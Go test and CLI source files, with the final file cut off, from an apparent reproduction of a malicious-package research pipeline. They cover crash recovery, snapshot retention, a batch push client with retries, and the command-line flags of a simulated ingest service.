			t.Fatalf("restore %s: %v", snapshotPath, restoreErr)
		}
	} else if os.IsNotExist(err) {
		p.AttachStore(store)
	} else {
		t.Fatal(err)
	}
	j, err := wal.Open(walDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.ReplayJournal(j); err != nil {
		t.Fatalf("replay: %v", err)
	}
	p.AttachJournal(j)
	return p, j
}

// TestServeStoreRecoveryAcrossRestarts is the segmented mirror of
// TestServeWALRecoveryAcrossRestarts: generation 1 crashes with journal
// only, generation 2 recovers and auto-checkpoints through the store
// (publishing a v5 manifest and truncating the journal), generation 3
// recovers from manifest + store alone and finishes the feed — matching an
// uninterrupted drain.
func TestServeStoreRecoveryAcrossRestarts(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	dir := t.TempDir()
	snapshotPath := filepath.Join(dir, "state.json")
	walDir := filepath.Join(dir, "wal")
	storeDir := filepath.Join(dir, "store")

	// Generation 1: store attached cold, journaled, no checkpoint taken.
	store1, err := castore.Open(storeDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	s1, ts1 := newTestServer(t, 4, snapshotPath)
	s1.p.AttachStore(store1)
	s1.store = store1
	j1, err := wal.Open(walDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	s1.p.AttachJournal(j1)
	s1.wal = j1
	s1.checkpointBytes = 1 << 30 // never auto-checkpoint in this generation

	postJSON(t, ts1.URL+"/api/v1/ingest", http.StatusOK)
	postJSON(t, ts1.URL+"/api/v1/ingest", http.StatusOK)
	stats1 := s1.p.Stats()
	ts1.Close()
	if err := j1.Close(); err != nil { // the crash: journal only, empty store
		t.Fatal(err)
	}
	if store1.Len() != 0 {
		t.Fatalf("no checkpoint ran, yet the store holds %d blobs", store1.Len())
	}

	// Generation 2: journal-only recovery, then an auto-checkpoint writes
	// the first (full re-base) manifest into the store.
	store2, err := castore.Open(storeDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	p2, j2 := recoverStorePipeline(t, 4, snapshotPath, walDir, store2)
	if p2.LastSeq() != 2 {
		t.Fatalf("recovered seq %d, want 2", p2.LastSeq())
	}
	if got := p2.Stats(); !reflect.DeepEqual(got, stats1) {
		t.Fatalf("recovered stats %+v\nwant %+v", got, stats1)
	}
	s2 := newServer(p2, snapshotPath)
	s2.store = store2
	s2.wal = j2
	s2.checkpointBytes = 1 // checkpoint after every journaled byte
	ts2 := httptest.NewServer(s2.handler())

	postJSON(t, ts2.URL+"/api/v1/ingest", http.StatusOK)
	manifest1, err := os.ReadFile(snapshotPath)
	if err != nil {
		t.Fatalf("auto-checkpoint did not publish the manifest: %v", err)
	}
	if !bytes.Contains(manifest1, []byte(`"version":5`)) {
		t.Fatalf("store-backed checkpoint wrote a non-v5 snapshot: %.80s", manifest1)
	}
	if store2.Len() == 0 {
		t.Fatal("checkpoint appended no blobs to the store")
	}
	if sz := j2.Size(); sz != 0 {
		t.Fatalf("journal not truncated after checkpoint: %d bytes", sz)
	}

	// A second checkpointed ingest appends a delta segment — the manifest
	// stays small while the chunk chain grows — and archives the previous
	// manifest under retention.
	blobsAfterFull := store2.Len()
	postJSON(t, ts2.URL+"/api/v1/ingest", http.StatusOK)
	if got := store2.SegmentCount(); got < 2 {
		t.Fatalf("second checkpoint did not append a delta segment: %d segment(s)", got)
	}
	if store2.Len() <= blobsAfterFull {
		t.Fatal("delta checkpoint added no chunks")
	}
	if _, err := os.Stat(archiveName(snapshotPath, 1)); err != nil {
		t.Fatalf("previous manifest was not archived: %v", err)
	}
	stats2 := s2.p.Stats()
	ts2.Close()
	if err := j2.Close(); err != nil {
		t.Fatal(err)
	}

	// Generation 3: manifest + store only (journal empty). The feed is
	// drained already (4 batches, all ingested); state must match an
	// uninterrupted drain.
	store3, err := castore.Open(storeDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	p3, j3 := recoverStorePipeline(t, 4, snapshotPath, walDir, store3)
	defer j3.Close()
	if p3.LastSeq() != 4 {
		t.Fatalf("manifest-only recovery seq %d, want 4", p3.LastSeq())
	}
	if got := p3.Stats(); !reflect.DeepEqual(got, stats2) {
		t.Fatalf("manifest-only recovered stats %+v\nwant %+v", got, stats2)
	}
	if pending := p3.PendingBatches(); pending != 0 {
		t.Fatalf("feed not drained after recovery: %d pending", pending)
	}
	ref, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 4)
	if err != nil {
		t.Fatal(err)
	}
	for ref.PendingBatches() > 0 {
		if _, _, err := ref.AppendNext(); err != nil {
			t.Fatal(err)
		}
	}
	if got, want := p3.Stats(), ref.Stats(); !reflect.DeepEqual(got, want) {
		t.Fatalf("restarted drain stats %+v\nwant uninterrupted %+v", got, want)
	}
}

// TestServeSnapshotRetention drives checkpoints past the retention budget
// and checks the archive window slides: the newest retain-1 archives stay,
// older ones are pruned.
func TestServeSnapshotRetention(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	dir := t.TempDir()
	snapshotPath := filepath.Join(dir, "state.json")
	store, err := castore.Open(filepath.Join(dir, "store"), nil)
	if err != nil {
		t.Fatal(err)
	}
	s, ts := newTestServer(t, 4, snapshotPath)
	s.p.AttachStore(store)
	s.store = store
	s.snapshotRetain = 2
	for i := 0; i < 4; i++ {
		postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
		postJSON(t, ts.URL+"/api/v1/snapshot", http.StatusOK)
	}
	// 4 checkpoints with retain=2: live manifest + exactly the newest
	// archive (generation 3) survive.
	gens, err := s.archiveGens()
	if err != nil {
		t.Fatal(err)
	}
	if len(gens) != 1 || gens[0] != 3 {
		t.Fatalf("retained archive generations = %v, want [3]", gens)
	}
	if _, err := os.Stat(snapshotPath); err != nil {
		t.Fatalf("live manifest missing: %v", err)
	}
	// The retained archive is itself restorable against the store.
	f, err := os.Open(archiveName(snapshotPath, 3))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	p, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 4)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.RestoreEngineWithStore(f, store); err != nil {
		t.Fatalf("archived manifest does not restore: %v", err)
	}
}

// TestServeSnapshotBundleRoundTrip: GET /api/v1/snapshot in store mode
// streams manifest + segments; readSnapshotBundle reconstructs a store
// directory a fresh pipeline restores from, matching the server's state.
func TestServeSnapshotBundleRoundTrip(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	dir := t.TempDir()
	snapshotPath := filepath.Join(dir, "state.json")
	store, err := castore.Open(filepath.Join(dir, "store"), nil)
	if err != nil {
		t.Fatal(err)
	}
	s, ts := newTestServer(t, 4, snapshotPath)
	s.p.AttachStore(store)
	s.store = store
	// Two checkpointed ingests so the bundle carries a multi-segment store;
	// the GET runs with no explicit checkpoint after the last ingest — it
	// must serve the last published manifest, not a fresh mutation.
	postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
	postJSON(t, ts.URL+"/api/v1/snapshot", http.StatusOK)
	postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
	postJSON(t, ts.URL+"/api/v1/snapshot", http.StatusOK)
	wantStats := s.p.Stats()

	resp, err := http.Get(ts.URL + "/api/v1/snapshot")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET snapshot: status %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/octet-stream" {
		t.Fatalf("bundle Content-Type = %q", ct)
	}
	cloneDir := filepath.Join(t.TempDir(), "store-clone")
	manifest, err := readSnapshotBundle(resp.Body, cloneDir)
	if err != nil {
		t.Fatalf("read bundle: %v", err)
	}
	cloneStore, err := castore.Open(cloneDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if cloneStore.Len() != store.Len() {
		t.Fatalf("cloned store has %d blobs, server store %d", cloneStore.Len(), store.Len())
	}
	p, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 4)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.RestoreEngineWithStore(bytes.NewReader(manifest), cloneStore); err != nil {
		t.Fatalf("restore from bundle: %v", err)
	}
	if got := p.Stats(); !reflect.DeepEqual(got, wantStats) {
		t.Fatalf("bundle-restored stats %+v\nwant %+v", got, wantStats)
	}

	// A truncated bundle must fail loudly, not produce a silent short store.
	resp2, err := http.Get(ts.URL + "/api/v1/snapshot")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	whole, err := io.ReadAll(resp2.Body)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := readSnapshotBundle(bytes.NewReader(whole[:len(whole)-10]), filepath.Join(t.TempDir(), "torn")); err == nil {
		t.Fatal("truncated bundle decoded without error")
	}
}

// TestServeCheckpointCrashMidSegmentWrite kills the store's segment write
// under a checkpoint (injected fsync failure): the checkpoint must fail
// without publishing a manifest or truncating the journal, the server keeps
// serving, the retried checkpoint succeeds, and a restart recovers exactly.
func TestServeCheckpointCrashMidSegmentWrite(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	dir := t.TempDir()
	snapshotPath := filepath.Join(dir, "state.json")
	walDir := filepath.Join(dir, "wal")
	storeDir := filepath.Join(dir, "store")
	fi := faultinject.NewFS(nil) // store-only faults; the journal uses the real fs
	store, err := castore.Open(storeDir, fi)
	if err != nil {
		t.Fatal(err)
	}
	s, ts := newTestServer(t, 4, snapshotPath)
	s.p.AttachStore(store)
	s.store = store
	j, err := wal.Open(walDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	s.p.AttachJournal(j)
	s.wal = j

	postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
	journalSize := j.Size()
	if journalSize == 0 {
		t.Fatal("ingest journaled nothing")
	}

	fi.FailSync(1) // the checkpoint's segment fsync
	out := postJSON(t, ts.URL+"/api/v1/snapshot", http.StatusInternalServerError)
	if msg, _ := out["error"].(string); !strings.Contains(msg, "injected fault") {
		t.Fatalf("checkpoint error = %v, want the injected store failure", out["error"])
	}
	if _, err := os.Stat(snapshotPath); !os.IsNotExist(err) {
		t.Fatalf("failed checkpoint published a manifest: %v", err)
	}
	if sz := j.Size(); sz != journalSize {
		t.Fatalf("failed checkpoint changed the journal: %d bytes, want %d", sz, journalSize)
	}

	// Fault cleared: ingest and checkpoint proceed, nothing was poisoned.
	postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
	postJSON(t, ts.URL+"/api/v1/snapshot", http.StatusOK)
	if sz := j.Size(); sz != 0 {
		t.Fatalf("journal not truncated after recovered checkpoint: %d bytes", sz)
	}
	stats := s.p.Stats()
	ts.Close()
	if err := j.Close(); err != nil {
		t.Fatal(err)
	}

	store2, err := castore.Open(storeDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	p2, j2 := recoverStorePipeline(t, 4, snapshotPath, walDir, store2)
	defer j2.Close()
	if got := p2.Stats(); !reflect.DeepEqual(got, stats) {
		t.Fatalf("recovered stats %+v\nwant %+v", got, stats)
	}
}

// TestServeCompactionCrashKeepsManifestsRestorable interrupts the
// serve-level compaction sweep (injected fsync failure on the merged
// segment): the live manifest and the retained archive must stay
// restorable, and the retried sweep must finish and preserve both.
func TestServeCompactionCrashKeepsManifestsRestorable(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	dir := t.TempDir()
	snapshotPath := filepath.Join(dir, "state.json")
	storeDir := filepath.Join(dir, "store")
	fi := faultinject.NewFS(nil)
	store, err := castore.Open(storeDir, fi)
	if err != nil {
		t.Fatal(err)
	}
	s, ts := newTestServer(t, 4, snapshotPath)
	s.p.AttachStore(store)
	s.store = store

	// Build up a multi-segment store: checkpoint after every ingest.
	for i := 0; i < 4; i++ {
		postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)
		postJSON(t, ts.URL+"/api/v1/snapshot", http.StatusOK)
	}
	if store.SegmentCount() < 2 {
		t.Fatalf("want a multi-segment store, got %d", store.SegmentCount())
	}

	restorable := func(path string) error {
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer f.Close()
		reopened, err := castore.Open(storeDir, nil)
		if err != nil {
			return err
		}
		p, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 4)
		if err != nil {
			return err
		}
		return p.RestoreEngineWithStore(f, reopened)
	}

	// The sweep dies at the merged segment's fsync — all old segments stay.
	fi.FailSync(1)
	s.checkpointMu.Lock()
	err = s.compactStore()
	s.checkpointMu.Unlock()
	if err == nil {
		t.Fatal("compaction succeeded despite injected failure")
	}
	for _, path := range []string{snapshotPath, archiveName(snapshotPath, 3)} {
		if err := restorable(path); err != nil {
			t.Fatalf("after interrupted compaction, %s does not restore: %v", path, err)
		}
	}

	// Retried sweep completes; live and archived manifests both survive it.
	s.checkpointMu.Lock()
	err = s.compactStore()
	s.checkpointMu.Unlock()
	if err != nil {
		t.Fatalf("retried compaction: %v", err)
	}
	if got := store.SegmentCount(); got != 1 {
		t.Fatalf("segments after compaction = %d, want 1", got)
	}
	for _, path := range []string{snapshotPath, archiveName(snapshotPath, 3)} {
		if err := restorable(path); err != nil {
			t.Fatalf("after compaction, %s does not restore: %v", path, err)
		}
	}
}
