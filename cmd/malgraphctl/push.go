package main

// Push mode is the client half of the external ingest path: a loader loop
// that reads raw source observations (from a JSON file, or generated from
// the simulated world), cuts them into batches, POSTs them to a running
// `malgraphctl serve` instance — observations to /api/v1/observations,
// reports to /api/v1/reports — and polls /api/v1/stats after each batch.
// Together with serve it closes the scheduler → worker → loader round-trip
// of the paper's continuous collection layer (§II-B) over real HTTP.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"time"

	"malgraph"
	"malgraph/internal/collect"
	"malgraph/internal/reports"
	"malgraph/internal/retry"
)

// pushRetry bounds the per-request retry loop of the loader client:
// transport errors and 5xx answers (including the serve API's 502
// "registry transport-failed, retry the batch") back off and retry;
// definitive rejections (4xx) abort immediately.
var pushRetry = retry.Policy{
	Attempts:  4,
	BaseDelay: 200 * time.Millisecond,
	MaxDelay:  3 * time.Second,
	Jitter:    0.5,
}

// cmdPush runs the loader loop against serverURL. With -file, observations
// are read from a JSON document ({"observations": [...]}); otherwise the
// simulated world for (seed, scale) is flattened into its raw observation
// stream and report corpus — which must match the serve process's seed and
// scale, since the server recovers artifacts from its own registry fleet.
// from (1-based) resumes an interrupted push at that batch: the server
// dedupes re-delivered batches, so resuming one batch early is safe while
// skipping an unacknowledged one is not.
func cmdPush(cfg malgraph.Config, serverURL, file string, batches, from int) error {
	var (
		obs  []collect.Observation
		reps []*reports.Report
	)
	if file != "" {
		var err error
		obs, err = readObservationsFile(file)
		if err != nil {
			return err
		}
	} else {
		p, err := malgraph.NewStreamingPipeline(context.Background(), cfg, 1)
		if err != nil {
			return err
		}
		obs = collect.ObservationsFromSources(p.World.Sources)
		_, reps = p.Source()
	}
	hc := &http.Client{Timeout: 60 * time.Second}
	return pushAll(hc, serverURL, obs, reps, batches, from, os.Stdout)
}

// readObservationsFile loads {"observations": [...]} from a JSON file.
func readObservationsFile(path string) ([]collect.Observation, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var doc struct {
		Observations []collect.Observation `json:"observations"`
	}
	if err := json.NewDecoder(f).Decode(&doc); err != nil {
		return nil, fmt.Errorf("decode %s: %w", path, err)
	}
	return doc.Observations, nil
}

// pushAll drives the loader loop: observations sorted into timeline order,
// cut into k batches, each POSTed with its proportional slice of the report
// corpus, with a stats poll after every round-trip. from (1-based) skips
// the batches an interrupted run already delivered. Each POST retries
// transient failures with backoff; once the budget is spent the error
// names the batch to resume from, so a crashed push never has to restart
// from scratch — the server dedupes whatever was already acknowledged.
func pushAll(hc *http.Client, base string, obs []collect.Observation, reps []*reports.Report, batches, from int, out io.Writer) error {
	collect.SortObservations(obs)
	if batches < 1 {
		batches = 1
	}
	if batches > len(obs) && len(obs) > 0 {
		batches = len(obs)
	}
	if from < 1 {
		from = 1
	}
	if from > 1 {
		fmt.Fprintf(out, "resuming at batch %d/%d\n", from, batches)
	}
	for i := from - 1; i < batches; i++ {
		lo, hi := i*len(obs)/batches, (i+1)*len(obs)/batches
		rlo, rhi := i*len(reps)/batches, (i+1)*len(reps)/batches
		var resp map[string]any
		if err := postJSONBody(hc, base+"/api/v1/observations",
			map[string]any{"observations": obs[lo:hi]}, &resp); err != nil {
			return fmt.Errorf("push batch %d/%d failed after retries (resume with -from %d): %w",
				i+1, batches, i+1, err)
		}
		if rhi > rlo {
			if err := postJSONBody(hc, base+"/api/v1/reports",
				map[string]any{"reports": reps[rlo:rhi]}, nil); err != nil {
				return fmt.Errorf("push reports %d/%d failed after retries (resume with -from %d): %w",
					i+1, batches, i+1, err)
			}
		}
		stats, err := getStats(hc, base)
		if err != nil {
			return fmt.Errorf("poll stats after batch %d/%d: %w", i+1, batches, err)
		}
		fmt.Fprintf(out, "batch %d/%d: pushed %d observations, %d reports (seq %v) -> %v entries, %v nodes, %v edges\n",
			i+1, batches, hi-lo, rhi-rlo, resp["seq"], stats["entries"], stats["nodes"], stats["edges"])
	}
	stats, err := getStats(hc, base)
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "push complete: %v entries (%v available), %v reports, missing rate %v\n",
		stats["entries"], stats["available"], stats["reports"], stats["missingRate"])
	return nil
}

// postJSONBody POSTs body as JSON and decodes the response into v (when
// non-nil). Transport errors and 5xx statuses — including the serve API's
// 502 for a registry blip, which ingests nothing — retry under pushRetry;
// a 429 admission shed is the server working as designed, so it burns the
// separate throttle budget instead of the failure budget; both honour the
// server's Retry-After hint (capped at the policy's MaxDelay ceiling).
// Other non-2xx statuses are definitive and surface the server's error
// message immediately.
func postJSONBody(hc *http.Client, url string, body, v any) error {
	payload, err := json.Marshal(body)
	if err != nil {
		return err
	}
	return pushRetry.Do(context.Background(), func(ctx context.Context) error {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(payload))
		if err != nil {
			return err
		}
		req.Header.Set("Content-Type", "application/json")
		resp, err := hc.Do(req)
		if err != nil {
			return retry.Mark(err)
		}
		defer resp.Body.Close()
		if resp.StatusCode/100 != 2 {
			var e struct {
				Error string `json:"error"`
			}
			_ = json.NewDecoder(resp.Body).Decode(&e)
			serr := fmt.Errorf("POST %s: status %d: %s", url, resp.StatusCode, e.Error)
			hint, _ := retry.ParseRetryAfter(resp.Header.Get("Retry-After"))
			switch {
			case resp.StatusCode == http.StatusTooManyRequests:
				return retry.MarkThrottled(serr, hint)
			case resp.StatusCode >= 500:
				return retry.MarkAfter(serr, hint)
			}
			return serr
		}
		if v == nil {
			return nil
		}
		return json.NewDecoder(resp.Body).Decode(v)
	})
}

func getStats(hc *http.Client, base string) (map[string]any, error) {
	resp, err := hc.Get(base + "/api/v1/stats")
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("GET stats: status %d", resp.StatusCode)
	}
	var out map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return nil, err
	}
	return out, nil
}
