// Command malgraphctl drives the MalGraph reproduction pipeline from the
// command line.
//
// Usage:
//
//	malgraphctl run     [-scale 0.05] [-seed N] [-detect] [-iters 50] [-maxpages N]
//	malgraphctl graph   [-scale 0.05] [-seed N] [-out graph.json]
//	malgraphctl crawl   [-scale 0.05] [-seed N]
//	malgraphctl serve   [-scale 0.05] [-seed N] [-addr :8080] [-batches 10] [-snapshot state.json]
//	                    [-store dir] [-snapshot-retain 2]
//	                    [-wal dir] [-checkpoint-bytes N] [-pprof localhost:6060]
//	                    [-remote-root URL[,URL...]] [-remote-mirror URL[,URL...]]
//	                    [-max-inflight 64] [-admission-wait 1s] [-max-body-bytes N]
//	                    [-mem-watermark-bytes N] [-drain-timeout 30s]
//	                    [-handler-timeout 2m] [-io-timeout 2m]
//	malgraphctl push    [-scale 0.05] [-seed N] [-server http://localhost:8080] [-file obs.json] [-batches 10] [-from K]
//	malgraphctl dataset [-scale 0.05] [-seed N] [-out data.json] [-full]
//
// run executes the full pipeline and renders every table and figure; graph
// exports MALGRAPH as JSON; crawl reports what the §III-D crawler found;
// serve runs the streaming MALGRAPH service — batch ingest, externally
// POSTed observations/reports, graph queries and incrementally recomputed
// results over HTTP, alongside the simulated PyPI root registry and its
// mirrors (warm-restartable via -snapshot; -remote-root/-remote-mirror
// route artifact recovery for external observations through live registry
// endpoints instead of the in-process fleet); push is the loader client,
// POSTing raw observations (from -file, or the simulated world) to a serve
// instance in batches and polling its stats; dataset exports the collected
// corpus (public metadata by default, -full embeds artifacts, mirroring the
// paper's two-tier release).
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"malgraph"
	"malgraph/internal/admission"
	"malgraph/internal/castore"
	"malgraph/internal/collect"
	"malgraph/internal/registry"
	"malgraph/internal/wal"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "malgraphctl:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: malgraphctl <run|graph|crawl|serve|push|dataset> [flags]")
	}
	cmd, rest := args[0], args[1:]
	fs := flag.NewFlagSet(cmd, flag.ContinueOnError)
	scale := fs.Float64("scale", 0.05, "corpus scale relative to the paper (1.0 ≈ 24k packages)")
	seed := fs.Uint64("seed", 20240404, "world seed")
	detect := fs.Bool("detect", false, "run the Table X detection experiment (run only)")
	iters := fs.Int("iters", 50, "detection iterations (run only)")
	out := fs.String("out", "", "output file (graph/dataset; default stdout)")
	addr := fs.String("addr", ":8080", "listen address (serve only)")
	full := fs.Bool("full", false, "embed artifacts in the dataset export (dataset only)")
	maxPages := fs.Int("maxpages", 0, "crawl page budget (0 = library default)")
	batches := fs.Int("batches", 10, "ingest batches the feed is partitioned into (serve/push)")
	snapshot := fs.String("snapshot", "", "engine snapshot file for warm restarts (serve only)")
	storeDir := fs.String("store", "", "content-addressed chunk store directory: checkpoints become a small manifest at -snapshot plus delta segments here, so checkpoint cost tracks the ingest delta (serve only; requires -snapshot)")
	snapshotRetain := fs.Int("snapshot-retain", 2, "how many snapshots to keep: the live one plus N-1 archives, pruned after each checkpoint (serve only; needs -store)")
	walDir := fs.String("wal", "", "write-ahead journal directory: accepted ingests are journaled before apply and replayed on restart (serve only)")
	checkpointBytes := fs.Int64("checkpoint-bytes", 4<<20, "auto-checkpoint once this many journal bytes accumulate (serve only; needs -wal and -snapshot; 0 disables)")
	from := fs.Int("from", 1, "first batch to push, 1-based — resume an interrupted push from its last acknowledged batch (push only)")
	remoteRoots := fs.String("remote-root", "", "comma-separated root registry base URLs for external-observation recovery (serve only)")
	remoteMirrors := fs.String("remote-mirror", "", "comma-separated mirror base URLs for external-observation recovery (serve only)")
	pprofAddr := fs.String("pprof", "", "side listener address for net/http/pprof, e.g. localhost:6060 (serve only; off by default)")
	server := fs.String("server", "http://localhost:8080", "serve instance to push to (push only)")
	file := fs.String("file", "", "observations JSON file to push; default: generate from the simulated world (push only)")
	maxInflight := fs.Int("max-inflight", 64, "concurrent mutating requests admitted; excess waits then gets 429 (serve only)")
	admissionWait := fs.Duration("admission-wait", time.Second, "how long a mutating request may queue for an admission slot before 429 (serve only; 0 = shed immediately)")
	maxBodyBytes := fs.Int64("max-body-bytes", 32<<20, "per-request body cap on mutating endpoints; larger bodies get 413 (serve only; 0 disables)")
	memWatermark := fs.Int64("mem-watermark-bytes", 0, "heap watermark above which mutating requests are shed with 429 while reads keep serving (serve only; 0 disables)")
	drainTimeout := fs.Duration("drain-timeout", 30*time.Second, "bound on draining in-flight requests at shutdown before connections are cut (serve only)")
	handlerTimeout := fs.Duration("handler-timeout", 2*time.Minute, "per-request context deadline on mutating handlers (serve only; 0 disables)")
	ioTimeout := fs.Duration("io-timeout", 2*time.Minute, "server read/write timeout per request — bounds slow-loris clients (serve only; 0 disables)")
	if err := fs.Parse(rest); err != nil {
		return err
	}

	cfg := malgraph.Config{
		Seed: *seed, Scale: *scale, Detection: *detect,
		DetectionIterations: *iters, MaxPages: *maxPages,
	}
	switch cmd {
	case "run":
		return cmdRun(cfg)
	case "graph":
		return cmdGraph(cfg, *out)
	case "crawl":
		return cmdCrawl(cfg)
	case "serve":
		return cmdServe(cfg, serveFlags{
			addr: *addr, batches: *batches, snapshotPath: *snapshot, walDir: *walDir,
			checkpointBytes: *checkpointBytes,
			storeDir:        *storeDir, snapshotRetain: *snapshotRetain,
			remoteRoots: splitList(*remoteRoots), remoteMirrors: splitList(*remoteMirrors),
			pprofAddr:   *pprofAddr,
			maxInflight: *maxInflight, admissionWait: *admissionWait,
			maxBodyBytes: *maxBodyBytes, memWatermark: *memWatermark,
			drainTimeout: *drainTimeout, handlerTimeout: *handlerTimeout, ioTimeout: *ioTimeout,
		})
	case "push":
		return cmdPush(cfg, *server, *file, *batches, *from)
	case "dataset":
		return cmdDataset(cfg, *out, *full)
	default:
		return fmt.Errorf("unknown command %q", cmd)
	}
}

func cmdDataset(cfg malgraph.Config, out string, full bool) error {
	p, err := malgraph.BuildPipeline(context.Background(), cfg)
	if err != nil {
		return err
	}
	w := os.Stdout
	if out != "" {
		f, err := os.Create(out)
		if err != nil {
			return err
		}
		defer f.Close()
		w = f
	}
	mode := collect.ExportPublic
	if full {
		mode = collect.ExportFull
	}
	if err := p.Dataset.WriteJSON(w, mode); err != nil {
		return fmt.Errorf("export dataset: %w", err)
	}
	fmt.Fprintf(os.Stderr, "exported %d entries (%d available), mode=%v\n",
		len(p.Dataset.Entries), len(p.Dataset.Available()), map[bool]string{true: "full", false: "public"}[full])
	return nil
}

func cmdRun(cfg malgraph.Config) error {
	start := time.Now()
	results, err := malgraph.Run(cfg)
	if err != nil {
		return err
	}
	results.Render(os.Stdout)
	fmt.Printf("\ncompleted in %v\n", time.Since(start).Round(time.Millisecond))
	return nil
}

func cmdGraph(cfg malgraph.Config, out string) error {
	p, err := malgraph.BuildPipeline(context.Background(), cfg)
	if err != nil {
		return err
	}
	w := os.Stdout
	if out != "" {
		f, err := os.Create(out)
		if err != nil {
			return err
		}
		defer f.Close()
		w = f
	}
	if err := p.Graph.G.WriteJSON(w); err != nil {
		return fmt.Errorf("export graph: %w", err)
	}
	fmt.Fprintf(os.Stderr, "exported %d nodes, %d edges\n", p.Graph.G.NodeCount(), p.Graph.G.EdgeCount())
	return nil
}

func cmdCrawl(cfg malgraph.Config) error {
	p, err := malgraph.BuildPipeline(context.Background(), cfg)
	if err != nil {
		return err
	}
	fmt.Printf("seeds: %d   fetched: %d   relevant: %d   skipped: %d   errors: %d\n",
		len(p.World.SeedURLs), p.Crawl.Fetched, len(p.Crawl.Relevant), p.Crawl.Skipped, p.Crawl.Errors)
	fmt.Printf("parsed reports: %d\n", len(p.Reports))
	for i, r := range p.Reports {
		if i >= 10 {
			fmt.Printf("… and %d more\n", len(p.Reports)-10)
			break
		}
		fmt.Printf("  %-60s pkgs=%d urls=%d ips=%d\n", r.URL, len(r.Packages), len(r.IoCs.URLs), len(r.IoCs.IPs))
	}
	return nil
}

// splitList splits a comma-separated flag value, dropping empty elements.
func splitList(raw string) []string {
	var out []string
	for _, v := range strings.Split(raw, ",") {
		if v = strings.TrimSpace(v); v != "" {
			out = append(out, v)
		}
	}
	return out
}

// serveFlags bundles serve's command-line knobs.
type serveFlags struct {
	addr            string
	batches         int
	snapshotPath    string
	walDir          string
	checkpointBytes int64
	storeDir        string
	snapshotRetain  int
	remoteRoots     []string
	remoteMirrors   []string
	pprofAddr       string
	maxInflight     int
	admissionWait   time.Duration
	maxBodyBytes    int64
	memWatermark    int64
	drainTimeout    time.Duration
	handlerTimeout  time.Duration
	ioTimeout       time.Duration
}

// cmdServe runs the streaming MALGRAPH service: the world's timeline cut
// into ingest batches, with ingest/query/results over HTTP (see serve.go),
// the external observations/reports inlet, plus the simulated PyPI registry
// endpoints. With -snapshot, existing engine state warm-restarts the server
// and POST /api/v1/snapshot checkpoints it again. With -wal, every accepted
// ingest is journaled (fsync'd) before the engine applies it, the journal
// suffix past the snapshot replays on startup, and -checkpoint-bytes bounds
// how much journal accumulates before an automatic checkpoint+truncate —
// recovery is always last snapshot + WAL suffix. With -store (PR 10), the
// snapshot file becomes a small manifest over content-addressed delta
// segments in the store directory: checkpoints write O(ingest delta)
// instead of re-serialising the corpus, the last -snapshot-retain
// manifests are kept (pruned after each checkpoint), a background sweep
// compacts the store once it accretes enough segments, and GET
// /api/v1/snapshot streams manifest + segments with per-segment CRCs. With -remote-root /
// -remote-mirror, artifact recovery for externally POSTed observations goes
// through a registry.RemoteFleet against those live base URLs instead of
// the in-process fleet. With -pprof, net/http/pprof is exposed on a side
// listener (never on the main API address) so lock contention and
// allocation profiles stay observable in production.
//
// Overload and lifecycle (PR 9): mutating requests pass a bounded admission
// gate (-max-inflight / -admission-wait; saturation answers 429 with a
// computed Retry-After), bodies are capped (-max-body-bytes), and an
// optional heap watermark (-mem-watermark-bytes) sheds writes under memory
// pressure while reads keep serving from the published epoch. SIGTERM and
// SIGINT trigger a graceful drain (-drain-timeout), a final checkpoint and
// a clean journal close; /readyz is the orchestrator's readiness probe
// (fails while poisoned, draining, or on a broken journal) next to the
// /healthz liveness probe.
func cmdServe(cfg malgraph.Config, sf serveFlags) error {
	p, err := malgraph.NewStreamingPipeline(context.Background(), cfg, sf.batches)
	if err != nil {
		return err
	}
	if len(sf.remoteRoots)+len(sf.remoteMirrors) > 0 {
		rf := registry.NewRemoteFleet(nil)
		for _, u := range sf.remoteRoots {
